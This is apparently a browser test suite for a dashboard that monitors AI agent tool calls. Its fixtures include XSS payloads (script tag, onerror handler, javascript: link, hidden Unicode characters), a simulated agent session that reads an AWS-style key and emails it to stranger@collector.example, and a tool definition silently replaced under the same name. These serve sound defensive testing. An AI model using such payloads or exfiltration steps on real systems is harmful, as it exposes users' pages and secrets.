/** The pages in a real browser, filled by real ingest: what an analyst does there, and what hostile content must not do. */
import { gzipSync } from 'node:zlib';
import type Axe from 'axe-core';
import axe from 'axe-core';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { NO_BROWSER, startBrowser } from './support/browser.ts';
import { startTestService, type TestService } from './support/http_service.ts';

const HOSTILE = `<script>window.hit=1</script><img src=x onerror="window.hit=2">"'&\u202eevil\u200b\u{e0041}\u0007](javascript:window.hit=3)`;
const ATTACKED = 'attacked "session" <b>/1';
const TIME = (second: number) => `2026-03-01T10:00:${String(second).padStart(2, '0')}Z`;

let test: TestService;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let faults: string[];

/** A secret is read from one system and sent out by another. */
function attack(session_id: string, user_id: string): Record<string, unknown>[] {
  const common = { session_id, user_id, agent: `agent ${HOSTILE.replace('\u0007', '')}` };
  const secret = `AKIA${'Q7XH4PZ2MN5TKW3V'}`;
  const of = (id: string) => `${session_id}-${id}`;
  return [
    { ...common, type: 'prompt', event_id: of('1'), time: TIME(1), content: `What is new? ${HOSTILE}` },
    {
      ...common,
      type: 'tool.call',
      event_id: of('2'),
      time: TIME(2),
      server: 'vault',
      tool: 'read_note',
      call_id: 'c1',
      params: { name: HOSTILE },
    },
    {
      ...common,
      type: 'tool.result',
      event_id: of('3'),
      time: TIME(3),
      server: 'vault',
      tool: 'read_note',
      call_id: 'c1',
      content: `The key is ${secret}. ${HOSTILE} ${'x'.repeat(200_000)}`,
    },
    {
      ...common,
      type: 'tool.call',
      event_id: of('4'),
      time: TIME(4),
      server: 'mail',
      tool: 'send_email',
      call_id: 'c2',
      params: { to: 'stranger@collector.example', subject: HOSTILE, body: `Here: ${secret}` },
    },
    {
      ...common,
      type: 'tool.result',
      event_id: of('5'),
      time: TIME(5),
      server: 'mail',
      tool: 'send_email',
      call_id: 'c2',
      content: 'sent',
    },
  ];
}

/** A server publishes a tool, and later another definition of it under the same name. */
const listed = (id: string, second: number, description: string, parameter: string) => ({
  type: 'tools.list',
  event_id: id,
  session_id: `lists ${id}`,
  user_id: 'ana@example.com',
  time: TIME(second),
  server: 'notes',
  tools: [{ name: 'add', description, inputSchema: { type: 'object', properties: { [parameter]: {} } } }],
});
const DEFINITIONS = '/tools/definitions?server=notes&tool=add';

async function open(path: string): Promise<void> {
  await page.goto(`${test.url}${path}`);
  await page.waitForLoadState('networkidle');
}

async function login(scheme: 'light' | 'dark' = 'light'): Promise<void> {
  context = await browser.newContext({ colorScheme: scheme, viewport: { width: 1280, height: 900 } });
  page = await context.newPage();
  page.setDefaultTimeout(15_000);
  faults = [];
  page.on('pageerror', (error) => faults.push(`error: ${error.message}`));
  page.on('console', (message) => {
    if (message.type() === 'error') faults.push(`console: ${message.text()}`);
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(test.url)) faults.push(`outside: ${request.url()}`);
  });
  // Chromium tells of what the policy refused in its console.
  const code = test.service.context.logins.issue({ key_id: 'k', name: HOSTILE, role: 'admin', tenant: 'default' });
  await open(`/login?code=${code}`);
}

const session_path = `/sessions/${encodeURIComponent(ATTACKED)}`;
const PAGES = [
  '/',
  '/alerts',
  '/sessions',
  session_path,
  `${session_path}?view=waterfall`,
  `${session_path}?view=graph`,
  `/entities/user/${encodeURIComponent('ana@example.com')}`,
  `/entities/tool/${encodeURIComponent(HOSTILE)}`,
  '/tools',
  '/suppressions',
  '/deliveries',
  '/integrity',
  '/audit',
  '/compliance',
  '/rules',
  DEFINITIONS,
  '/nowhere-at-all',
];

describe.skipIf(NO_BROWSER !== undefined)('the pages in a browser', () => {
  beforeAll(async () => {
    test = await startTestService();
    browser = await startBrowser();
    const { status, answer } = await test.send(
      [
        ...attack(ATTACKED, 'ana@example.com'),
        ...attack('second', 'ben@example.com'),
        listed('l1', 10, `Adds a note. ${HOSTILE}`, 'text'),
        listed('l2', 20, `Adds a note and keeps it. ${HOSTILE}`, HOSTILE),
      ],
      { query: '?tenant=default' },
    );
    expect(answer.records.filter(({ outcome }) => outcome === 'rejected')).toEqual([]);
    expect(status).toBe(200);
    await test.service.settled();
  });
  afterEach(() => context.close());
  afterAll(async () => {
    await browser.close();
    await test.close();
  });

  for (const scheme of ['light', 'dark'] as const) {
    it(`have no violation of axe's rules and of the security policy in ${scheme}, and run nothing that content holds`, async () => {
      await login(scheme);
      for (const path of PAGES.slice(0, -1)) {
        await open(path);
        await page.evaluate(axe.source);
        const found = await page.evaluate(async () => {
          const { violations } = await (globalThis as unknown as { axe: { run(): Promise<Axe.AxeResults> } }).axe.run();
          return violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html.slice(0, 200)}`);
        });
        expect(found, path).toEqual([]);
        expect(await page.evaluate(() => (globalThis as { hit?: number }).hit), path).toBeUndefined();
        expect(await page.locator('main img, main script').count(), path).toBe(0);
      }
      expect(faults).toEqual([]);
    });
  }

  it('are triaged with the keyboard alone: next, acknowledge, close with a verdict', async () => {
    await login();
    await open('/alerts');
    const rows = page.locator('tbody tr');
    await rows.first().waitFor();
    expect(await rows.count()).toBeGreaterThan(1);
    await page.keyboard.press('j');
    await page.locator('.panel h2').waitFor();
    expect(await page.locator('tr.here').count()).toBe(1);
    await page.locator('[data-action="acknowledge"]').waitFor();
    await page.keyboard.press('a');
    await page.locator('.panel .history >> text=acknowledged').waitFor();
    const close = page.locator('.panel .act button', { hasText: 'Close' });
    expect(await close.isDisabled()).toBe(true);
    await page.locator('.panel .act select').selectOption('false_positive');
    await close.click();
    await page.locator('.panel .history >> text=false positive').waitFor();
    await page.keyboard.press('Escape');
    await page.locator('.panel').waitFor({ state: 'detached' });
    await open('/alerts?status=closed');
    await page.locator('tbody tr').first().waitFor();
    expect(await page.locator('tbody tr').count()).toBe(1);
  });

  it('keep what they show in the address, and the back button goes back', async () => {
    await login();
    await open('/alerts');
    await page.locator('.filters select').first().selectOption('high');
    await page.waitForURL(/severity=high/);
    await page.locator('nav >> text=Sessions').click();
    await page.waitForURL(/\/sessions$/);
    await page.goBack();
    await page.waitForURL(/\/alerts\?severity=high/);
    expect(await page.locator('.filters select').first().inputValue()).toBe('high');
  });

  it('take queries in the language of the API, and mark the place of a fault', async () => {
    await login();
    await open('/sessions');
    const bar = page.locator('.query input');
    await bar.fill('user_id:ben* and tool:send_email');
    await bar.press('Enter');
    await page.waitForURL(/q=user_id/);
    await page.locator('tbody tr').first().waitFor();
    await expect.poll(() => page.locator('tbody tr').count()).toBe(1);
    await bar.fill('usr_id:ben');
    await bar.press('Enter');
    await page.locator('.caret mark').waitFor();
    expect(await page.locator('.caret mark').textContent()).toBe('usr_id');
    await page.getByText('did you mean user_id?').waitFor();
    expect(faults.filter((fault) => !fault.includes('400'))).toEqual([]);
  });

  it('show two definitions of a tool side by side, and take a word on the newer one', async () => {
    await login();
    await open('/tools');
    await page.getByRole('link', { name: 'add', exact: true }).click();
    await page.waitForURL(/tools\/definitions/);
    await page.locator('.sides ins').first().waitFor();
    expect((await page.locator('.sides ins').allTextContents()).join('')).toContain('and keeps it');
    await page.getByRole('button', { name: 'Approve version 2' }).click();
    const approve = page.getByRole('button', { name: 'Approve', exact: true });
    expect(await approve.isDisabled()).toBe(true);
    await page.locator('dialog textarea').fill('Announced in the release notes');
    await approve.click();
    await page.locator('tbody tr', { hasText: 'Announced in the release notes' }).waitFor();
    expect(await page.locator('tbody tr', { hasText: 'approved' }).count()).toBe(1);
    expect(faults).toEqual([]);
  });

  it('try a rule on stored events, and say what is wrong with one that cannot be read', async () => {
    await login();
    await open('/rules');
    const text = page.locator('.trial textarea');
    const run = page.getByRole('button', { name: 'Try it' });
    await page.locator('.trial input').fill('3000');
    await text.fill((await text.inputValue()).replace('tool|contains: customer', 'tool: send_email'));
    await run.click();
    await page.getByText('would have found 2 times in 2 sessions').waitFor();
    await text.fill('title: nothing');
    await run.click();
    await page.getByText('The rule cannot be read').waitFor();
    await open('/audit?q=type%3Acontent.searched');
    await page.locator('tbody tr', { hasText: 'query: title: nothing' }).waitFor();
    expect(faults).toEqual([]);
  });

  it('check the proof of an event by themselves, and say no to another key', async () => {
    await login();
    await open(session_path);
    await page.getByText('check proof').first().click();
    await page.locator('.proof.good').waitFor();
    expect(await page.locator('.proof.good').first().textContent()).toMatch(/verified: record \d+ is under the signed/);
    await open(`/integrity?event=${encodeURIComponent(`${ATTACKED}-4`)}`);
    const { vkey } = await test.read<{ vkey: string }>('/v1/log');
    const other = `${vkey.slice(0, -6)}${vkey.endsWith('AAAAAA') ? 'BBBBBB' : 'AAAAAA'}`;
    await page.locator('input.wide').fill(other);
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.locator('.proof.bad').waitFor();
    await page.locator('input.wide').fill(vkey);
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.locator('.proof.good').waitFor();
  });

  it('draw which value went from which result into which call, and link to the one event', async () => {
    await login();
    await open(`${session_path}?view=graph`);
    const boxes = page.locator('g.box');
    await boxes.first().waitFor();
    const names = await boxes.evaluateAll((all) => all.map((box) => box.textContent));
    expect(names.join()).toContain('vault.read_note');
    expect(names.join()).toContain('mail.send_email');
    expect(await page.locator('path.flow.secret').count()).toBeGreaterThan(0);
    await boxes.last().focus();
    await page.keyboard.press('Enter');
    await page.waitForURL(/#r\d+$/);
    await page.locator('.event.here').waitFor();
  });

  it('ask before they suspend, take a reason, and show it unconfirmed until a gateway applied it', async () => {
    await login();
    await open('/sessions/second');
    await page.getByRole('button', { name: 'Suspend the session' }).click();
    const suspend = page.getByRole('button', { name: 'Suspend', exact: true });
    expect(await suspend.isDisabled()).toBe(true);
    await page.locator('dialog textarea').fill('sends keys out');
    await suspend.click();
    await page.getByText('unconfirmed').waitFor();
    await page.getByRole('button', { name: 'Release the session' }).waitFor();
  });

  it('show characters that hide, and cut what is too long', async () => {
    await login();
    await open(session_path);
    await page.locator('.event .hidden').first().waitFor();
    const marks = await page.locator('.event .hidden').allInnerTexts();
    expect(marks).toEqual(expect.arrayContaining(['U+202E', 'U+200B', 'U+E0041', 'U+0007']));
    expect(await page.getByText(/Cut after 20000 of/).count()).toBe(1);
  });

  it('tell a browser without a login how to get in', async () => {
    context = await browser.newContext();
    page = await context.newPage();
    const answer = await page.goto(`${test.url}/alerts`);
    expect(answer?.status()).toBe(401);
    expect(await page.textContent('main')).toContain('one-time address');
  });

  it('weigh less than 120 KB packed, scripts and style together', async () => {
    context = await browser.newContext();
    const page_text = await (await fetch(`${test.url}/static/app.js`)).text();
    const parts = [...new Set(page_text.match(/part-[A-Z0-9]+\.js/g) ?? [])];
    expect(parts.length).toBeGreaterThan(0);
    let bytes = 0;
    for (const file of ['app.js', 'style.css', ...parts]) {
      const answer = await fetch(`${test.url}/static/${file}`);
      expect(answer.status).toBe(200);
      bytes += gzipSync(await answer.text()).length;
    }
    expect(bytes).toBeLessThan(120_000);
  });
});
